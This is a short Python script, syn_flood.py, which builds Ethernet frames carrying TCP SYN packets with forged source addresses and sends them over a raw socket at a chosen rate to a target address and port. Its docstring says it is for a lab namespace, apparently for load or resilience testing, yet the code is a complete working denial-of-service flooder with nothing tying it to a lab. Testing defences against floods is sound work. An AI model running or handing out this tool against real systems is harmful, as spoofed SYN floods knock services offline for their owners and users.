"""syn_flood.py DEV GATEWAY_MAC FROM VIP PORT SECONDS RATE: SYNs from sources of FROM.x.x, as many a
second as said; prints how many. To be run in a namespace of a lab."""
import random
import socket
import struct
import sys
import time

BURST = 200


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def frames(own, gateway, sources, vip, port, count):
    """Made before they are sent, so that sending costs little."""
    ether = bytes.fromhex(gateway.replace(":", "")) + own + b"\x08\x00"
    to = socket.inet_aton(vip)
    for i in range(count):
        src = socket.inet_aton(f"{sources}.{i >> 8 & 255}.{i & 255}")
        tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65000), port, random.getrandbits(32), 0,
                          0x60, 2, 65535, 0, 0) + b"\x02\x04\x05\xb4"
        pseudo = src + to + struct.pack("!HH", 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), i & 0xffff, 0x4000, 64, 6, 0, src, to)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        yield ether + ip + tcp


def main(dev, gateway, sources, vip, port, seconds, rate):
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((dev, 0))
    packets = list(frames(out.getsockname()[4], gateway, sources, vip, int(port), 16384))
    rate, begin, sent, lost = int(rate), time.monotonic(), 0, 0
    print("ready", flush=True)
    while (past := time.monotonic() - begin) < float(seconds):
        if sent >= rate * past:
            time.sleep(0.001)
            continue
        for _ in range(BURST):
            try:
                out.send(packets[sent % len(packets)])
            except OSError:
                lost += 1
            sent += 1
    print(sent - lost, flush=True)


main(*sys.argv[1:])
